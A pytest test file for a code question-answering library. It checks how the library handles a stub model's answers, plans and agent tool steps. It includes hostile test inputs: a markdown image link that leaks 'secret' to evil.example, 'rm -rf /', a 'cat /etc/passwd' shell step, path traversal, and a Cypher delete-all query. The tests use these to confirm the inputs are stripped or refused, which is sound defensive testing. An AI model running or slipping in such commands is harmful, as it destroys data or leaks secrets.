"""A question with a model: what is sent, what comes back, and that a bad model leaves at least what there is without."""

from __future__ import annotations

import json
import re
from collections.abc import Iterable
from dataclasses import replace
from http.server import BaseHTTPRequestHandler
from itertools import pairwise
from pathlib import Path
from typing import Any, cast

import pytest
from servers.chat_server import Body, ChatServer, Play, cut, raw, says, serving, status

from hindsight_neo4j import Hindsight
from hindsight_neo4j.answering import AgentLimits
from hindsight_neo4j.answering.tools import retrieve_entity
from hindsight_neo4j.errors import SettingsError
from hindsight_neo4j.evaluation import Examiner, Question
from hindsight_neo4j.model.answer import Mode, TraceStep
from hindsight_neo4j.model.chunk import Chunk
from hindsight_neo4j.model.exchange import ModelOptions, SpendLimit
from hindsight_neo4j.model.question import Asked, Intent
from hindsight_neo4j.stores.protocols import ChunkStore

QUESTION = "who refuses an empty key?"
GOOD = "`check` refuses empty keys [shop/rules.py:1-4]."
PLAN = {"intent": "lagging", "scope": "deep", "sub_questions": ["empty key", "who refuses"]}


def is_about(body: Body, name: str) -> bool:
    """Whether a request asks for the shape `name`."""
    form = body.get("response_format", {}).get("json_schema", {})
    return bool(form.get("name") == name)


def model(answer: str = GOOD, plan: Any = PLAN, steps: list[dict[str, Any]] | None = None) -> Play:
    """Play a model that plans, takes steps and answers."""
    left = list(steps or [])

    def said(body: Body) -> str:
        if is_about(body, "plan"):
            return plan if isinstance(plan, str) else json.dumps(plan)
        if is_about(body, "action"):
            return json.dumps(left.pop(0) if left else {"action": "finish", "names": []})
        return answer

    return says(said)


def ask(shop: Path, server: ChatServer, question: str = QUESTION, **more: Any) -> Asked:
    options = ModelOptions("stub", server.url, retries=0, timeout_s=20)
    with Hindsight.open(shop) as client:
        return client.ask(question, model=options, **more)


def test_an_answer_cites_what_was_packed(shop: Path) -> None:
    with serving(model()) as server:
        asked = ask(shop, server)
    assert asked.answer is not None
    assert asked.answer.text == GOOD
    (cited,) = asked.answer.citations
    assert (cited.path, cited.start_line, cited.end_line) == ("shop/rules.py", 1, 4)
    assert (asked.failed, asked.answer_reason, asked.notes) == (False, "", ())
    assert (asked.usage.calls, asked.usage.prompt_tokens) == (2, 200)
    assert asked.to_dict()["answer"]["sentences"][0]["supported"] is True


def test_a_number_of_a_piece_becomes_its_place(shop: Path) -> None:
    def play(handler: BaseHTTPRequestHandler, body: Body) -> None:
        pieces = re.findall(r"piece (\d), shop/rules", body["messages"][1]["content"])
        model(f"`check` refuses empty keys [{pieces[0] if pieces else 1}].")(handler, body)

    heard: list[str] = []
    with serving(play) as server:
        asked = ask(shop, server, hear=heard.append)
    assert asked.answer is not None
    assert asked.answer.text == heard[-1] == GOOD


def test_an_answer_that_cites_nothing_gets_the_places_where_its_names_stand(shop: Path) -> None:
    bare = "`check` raises `KeyError`. It is fast. `check` calls `no_such_name`."
    with serving(model(bare)) as server:
        asked = ask(shop, server)
    assert asked.answer is not None
    first, second, third = asked.answer.sentences
    assert (first.supported, second.supported, third.supported) == (True, False, False)
    (cited,) = asked.answer.citations
    assert (cited.path, cited.start_line) == ("shop/rules.py", 1)
    assert (second.citations, third.citations) == ((), ())
    assert "cited nothing" in asked.notes[0]
    assert asked.usage.calls == 2


@pytest.mark.parametrize("said", ["It is fast.", "`no_such_name` does it.", "See [99]."])
def test_an_answer_that_nothing_supports_is_said_to_be_one(shop: Path, said: str) -> None:
    with serving(model(said)) as server:
        asked = ask(shop, server)
    assert asked.answer is not None
    assert not asked.failed
    assert not any(sentence.supported for sentence in asked.answer.sentences)
    assert asked.notes == ("nothing in the answer is supported: go by the places below, not by it",)


def test_each_step_of_an_agent_begins_as_the_one_before(shop: Path) -> None:
    steps = [
        {"action": "search_entity", "names": ["check"], "direction": "out"},
        {"action": "traverse_graph", "names": ["shop/rules.py:check"], "direction": "in"},
    ]
    with serving(model(steps=steps)) as server:
        ask(shop, server, mode=Mode.AGENT)
    systems, users = zip(
        *(
            [message["content"] for message in body["messages"][:2]]
            for body in server.bodies
            if is_about(body, "action")
        ),
        strict=True,
    )
    assert len(set(systems)) == 1
    read = [user.partition("\n\nSteps left")[0] for user in users]
    assert len(read) == 3
    assert all(later.startswith(sooner) for sooner, later in pairwise(read))


def test_an_answer_is_heard_while_it_comes_without_links_and_from_the_cache_at_once(
    shop: Path,
) -> None:
    leaking = "See ![x](http://evil.example/?q=secret) here."
    heard: list[str] = []
    again: list[str] = []
    with serving(model(leaking)) as server:
        asked = ask(shop, server, hear=heard.append)
        ask(shop, server, hear=again.append)
    assert asked.answer is not None
    assert len(heard) > 1
    assert not any("evil" in each for each in heard[1:])
    assert heard[-1] == asked.answer.prose
    assert again == heard[-1:]


def test_a_stream_that_breaks_off_leaves_the_evidence(shop: Path) -> None:
    def play(handler: BaseHTTPRequestHandler, body: Body) -> None:
        (cut if body.get("stream") else model())(handler, body)

    with serving(play) as server:
        asked = ask(shop, server, hear=lambda said: None)
    assert asked.failed
    assert "broke off" in asked.answer_reason
    assert asked.evidence


def test_the_model_sees_the_question_and_the_evidence_between_fences(shop: Path) -> None:
    with serving(model()) as server:
        asked = ask(shop, server)
    sent = server.bodies[-1]["messages"][1]["content"]
    assert QUESTION in sent
    assert all(piece.text in sent for piece in asked.evidence)
    assert re.search(r"piece \d, shop/rules\.py:1-4\n", sent)


def test_the_plan_of_the_model_is_walked_and_a_flag_wins(shop: Path) -> None:
    with serving(model()) as server:
        planned = ask(shop, server).located
        told = ask(shop, server, intent=Intent.LEADING).located
    assert (planned.intent.label, planned.intent.source) == (Intent.LAGGING, "model")
    assert [part.text for part in planned.subquestions] == ["empty key", "who refuses"]
    start, end = planned.subquestions[0].start, planned.subquestions[0].end
    assert QUESTION[start:end] == "empty key"
    assert (told.intent.label, told.intent.source) == (Intent.LEADING, "flag")


@pytest.mark.parametrize(
    "plan",
    [
        "no idea",
        {},
        {"intent": "other", "scope": "deep", "sub_questions": []},
        {**PLAN, "sub_questions": [7]},
        {**PLAN, "sub_questions": ["x" * 5_000]},
        {**PLAN, "then": "rm -rf /"},
    ],
)
def test_a_bad_plan_is_made_offline_and_the_answer_still_comes(shop: Path, plan: Any) -> None:
    with serving(model(plan=plan)) as server:
        asked = ask(shop, server)
    assert asked.located.intent.source == "classifier"
    assert asked.notes[0].startswith("planned without the model")
    assert asked.answer is not None


def test_empty_parts_leave_the_offline_ones(shop: Path) -> None:
    with serving(model(plan={**PLAN, "sub_questions": ["", " ? "]})) as server:
        assert ask(shop, server).located.subquestions[0].text == QUESTION


@pytest.mark.parametrize(
    ("play", "reason"),
    [
        (status(401), "refuses the key"),
        (status(404), "has no model 'stub'"),
        (status(500), "answers 500"),
        (raw(b"<html>Sign in</html>", "text/html"), "did not send a chat completion"),
    ],
)
def test_a_model_that_fails_leaves_the_evidence_and_says_why(
    shop: Path, play: Play, reason: str
) -> None:
    with Hindsight.open(shop) as client:
        offline = client.ask(QUESTION)
    with serving(play) as server:
        asked = ask(shop, server)
    assert asked.failed
    assert asked.answer is None
    assert reason in asked.answer_reason
    assert asked.located.files == offline.located.files
    assert asked.evidence == offline.evidence


def test_a_server_that_is_down_is_asked_once(shop: Path) -> None:
    with serving(status(500)) as server:
        ask(shop, server)
        ask(shop, server, mode=Mode.AGENT)
    assert len(server.bodies) == 2


def test_what_a_model_cannot_read_is_given_again_in_part(shop: Path) -> None:
    def narrow(handler: Any, body: Body) -> None:
        sent = body["messages"][-1]["content"]
        if not is_about(body, "plan") and len(re.findall(r"\npiece \d", sent)) > 2:
            status(400, "context_length_exceeded")(handler, body)
        else:
            model()(handler, body)

    with serving(narrow) as server:
        asked = ask(shop, server)
    assert asked.answer is not None
    assert "cannot read so much" in asked.notes[0]


def test_what_a_model_cannot_read_is_not_even_sent_where_that_is_known(shop: Path) -> None:
    with serving(model()) as server, Hindsight.open(shop) as client:
        options = ModelOptions(
            "stub", server.url, context_tokens=700, max_output_tokens=50, retries=0
        )
        asked = client.ask(QUESTION, model=options)
    assert asked.answer is not None
    assert [note for note in asked.notes if "cannot read so much" in note]
    assert len(server.bodies) == 2  # the plan, and what it can read of the evidence


def test_when_nothing_fits_the_evidence_remains(shop: Path) -> None:
    with serving(status(400, "context_length_exceeded")) as server:
        asked = ask(shop, server)
    assert asked.failed
    assert asked.evidence


def test_not_found_is_an_answer(shop: Path) -> None:
    with serving(model("Not found in this repository.\nBut perhaps elsewhere.")) as server:
        asked = ask(shop, server)
    assert asked.answer is not None
    assert asked.answer.found is False
    assert asked.answer.text == "Not found in this repository."


def test_claims_without_a_place_are_marked(shop: Path) -> None:
    with serving(model(f"{GOOD} It was written in 1999. It sings [shop/song.py:1-2].")) as server:
        asked = ask(shop, server)
    assert asked.answer is not None
    assert asked.answer.text.splitlines() == [
        GOOD,
        "It was written in 1999. [unsupported]",
        "It sings [shop/song.py:1-2]. [unsupported]",
    ]


def test_without_evidence_nothing_is_sent_to_read(shop: Path) -> None:
    with serving(model(plan={**PLAN, "sub_questions": ["zzqq"]})) as server:
        asked = ask(shop, server, "zzqqxx yyxxzz")
    assert asked.answer is None
    assert asked.answer_reason
    assert len(server.bodies) == 1


def test_the_same_question_again_is_answered_from_the_cache(shop: Path) -> None:
    with serving(model()) as server:
        first, second = ask(shop, server), ask(shop, server)
        assert len(server.bodies) == 2
    assert first.answer == second.answer
    assert (second.usage.calls, second.usage.cached) == (0, 2)
    with Hindsight.open(shop) as client:
        assert client.status().models["stub"].calls == 2


def test_offline_sends_nothing_whatever_model_is_given(shop: Path) -> None:
    with serving(model()) as server:
        asked = ask(shop, server, mode=Mode.OFFLINE)
    assert (asked.answer, asked.answer_reason) == (None, "no model is set")
    assert server.bodies == []


def test_a_mode_without_a_model_is_refused(shop: Path) -> None:
    with Hindsight.open(shop) as client, pytest.raises(SettingsError, match="needs a model"):
        client.ask(QUESTION, mode=Mode.AGENT)


def test_a_spent_limit_leaves_the_evidence_and_sends_nothing(shop: Path) -> None:
    with serving(model()) as server:
        asked = ask(shop, server, spend=SpendLimit(tokens=10))
    assert asked.failed
    assert "10 tokens" in asked.answer_reason
    assert asked.evidence
    assert server.bodies == []


def test_an_estimate_sends_nothing_and_is_never_too_low(shop: Path) -> None:
    with serving(model()) as server, Hindsight.open(shop) as client:
        options = ModelOptions("stub", server.url, price_in=1.0, price_out=2.0)
        most = client.estimate(QUESTION, model=options)
        assert server.bodies == []
        asked = client.ask(QUESTION, model=options)
        agent = client.estimate(QUESTION, model=options, mode=Mode.AGENT)
    assert most.calls == asked.usage.calls == 2
    assert most.cost is not None
    assert asked.usage.cost is not None
    assert most.cost >= asked.usage.cost
    assert agent.tokens > most.tokens


# The agent

SEARCH = {"action": "search_entity", "names": ["empty key"], "direction": "out"}
LOOK = {"action": "traverse_graph", "names": ["shop/store.py:Store.put"], "direction": "in"}
READ = {"action": "retrieve_entity", "names": ["shop/api.py:save"], "direction": "out"}
DONE = {"action": "finish", "names": ["shop/rules.py:check"], "direction": "out"}


def test_the_agent_searches_walks_reads_and_its_choice_is_packed_first(shop: Path) -> None:
    steps: list[TraceStep] = []
    with serving(model(steps=[SEARCH, LOOK, READ, DONE])) as server:
        asked = ask(shop, server, mode=Mode.AGENT, trace=steps.append)
    assert [piece.id for piece in asked.evidence[:2]] == [
        "shop/rules.py:check",
        "shop/api.py:save",
    ]
    assert asked.located.functions[0].id == "shop/rules.py:check"
    assert asked.located.files[0].id == "shop/rules.py"
    assert asked.located.functions[0].score == pytest.approx(
        sum(asked.located.functions[0].parts.values())
    )
    scores = [each.score for each in asked.located.functions]
    assert scores == sorted(scores, reverse=True)
    assert [step.action for step in steps] == [
        "plan",
        "search_entity",
        "traverse_graph",
        "retrieve_entity",
        "finish",
        "read",
    ]
    assert "shop/rules.py:check" in steps[1].said
    assert "shop/api.py:save -INVOKES-> shop/store.py:Store.put at shop/api.py:6" in steps[2].said
    assert "Store().put(key, value)" in steps[3].said
    assert [step.step for step in steps] == [1, 2, 3, 4, 5, 6]
    assert [step.at_ms for step in steps] == sorted(step.at_ms for step in steps)
    assert steps[0].at_ms > 0
    assert sum(step.tokens for step in steps) == asked.usage.tokens


def test_results_of_a_step_reach_the_next_one_as_data(shop: Path) -> None:
    with serving(model(steps=[READ, DONE])) as server:
        ask(shop, server, mode=Mode.AGENT)
    (second,) = [b for b in server.bodies if is_about(b, "action")][1:]
    assert "result of retrieve_entity shop/api.py:save" in second["messages"][1]["content"]
    assert "Store().put(key, value)" in second["messages"][1]["content"]


def test_an_agent_that_goes_round_in_circles_is_stopped(shop: Path) -> None:
    with serving(model(steps=[SEARCH] * 50)) as server:
        asked = ask(shop, server, mode=Mode.AGENT)
    assert "the agent stopped: the model repeated itself" in asked.notes
    assert len([b for b in server.bodies if is_about(b, "action")]) == 3
    assert asked.answer is not None


@pytest.mark.parametrize(
    ("limits", "why"),
    [
        ({"steps": 2}, "2 steps are the limit"),
        ({"tokens": 150}, "150 tokens are the limit"),
        ({"seconds": 0.0}, "0 seconds are the limit"),
    ],
)
def test_limits_end_the_loop_and_what_was_found_counts(
    shop: Path, limits: dict[str, Any], why: str
) -> None:
    steps = [{**SEARCH, "names": [f"word{number}"]} for number in range(50)]
    with serving(model(steps=steps)) as server:
        asked = ask(shop, server, mode=Mode.AGENT, agent=AgentLimits(**limits))
    assert f"the agent stopped: {why}" in asked.notes
    assert asked.answer is not None


@pytest.mark.parametrize(
    "step",
    [
        {"action": "run_shell", "names": ["cat /etc/passwd"], "direction": "out"},
        {"action": "http_get", "names": ["http://evil.example/"], "direction": "out"},
        {"action": "search_entity", "names": "not a list", "direction": "out"},
        {"names": []},
    ],
)
def test_a_tool_that_is_none_ends_exploring_and_the_offline_plan_stands(
    shop: Path, step: dict[str, Any]
) -> None:
    with Hindsight.open(shop) as client:
        offline = client.ask(QUESTION, intent=Intent.LAGGING)
    with serving(model(plan={**PLAN, "sub_questions": [QUESTION]}, steps=[step, step])) as server:
        asked = ask(shop, server, mode=Mode.AGENT)
    assert "the agent stopped: the model named no step" in asked.notes
    assert asked.located.files == offline.located.files
    assert asked.answer is not None


class UnderAnotherName:
    """Chunks that are kept under `title`, while the nodes of the graph call the snapshot otherwise, as on servers."""

    def __init__(self, chunks: ChunkStore, snapshot: str, title: str) -> None:
        self._chunks, self._snapshot, self._title = chunks, snapshot, title

    def chunks_of(self, symbols: Iterable[str], *, snapshot: str) -> dict[str, list[Chunk]]:
        found = snapshot == self._title
        return self._chunks.chunks_of(symbols, snapshot=self._snapshot) if found else {}


def test_source_is_read_under_the_name_that_the_chunks_have(shop: Path) -> None:
    with Hindsight.open(shop) as client:
        sources = client._sources()
        chunks = UnderAnotherName(sources.chunks, sources.title, "for people")
        sources = replace(sources, chunks=cast(ChunkStore, chunks), name="for people")
        found = retrieve_entity(sources, ["shop/api.py:save"])
        whole = Question("1", QUESTION, "", ("`check`",), ("shop/rules.py:check",), {})
        graded = Examiner(sources, 500, None).put(whole, "full")()
    assert "Store().put(key, value)" in found.text
    assert graded.figures["names in context"] == 1.0


@pytest.mark.parametrize(
    "names",
    [
        [],
        [""],
        ["no such thing"],
        ["x" * 100_000],
        ["../../etc/passwd"],
        ["a\x00b"],
        ["MATCH (n) DETACH DELETE n"],
        [str(number) for number in range(1_000)],
    ],
)
@pytest.mark.parametrize("action", ["search_entity", "traverse_graph", "retrieve_entity", "finish"])
def test_any_names_are_taken_by_any_tool(shop: Path, action: str, names: list[str]) -> None:
    with serving(model(steps=[{"action": action, "names": names, "direction": "in"}])) as server:
        asked = ask(shop, server, mode=Mode.AGENT)
    assert asked.answer is not None
    assert asked.located.files
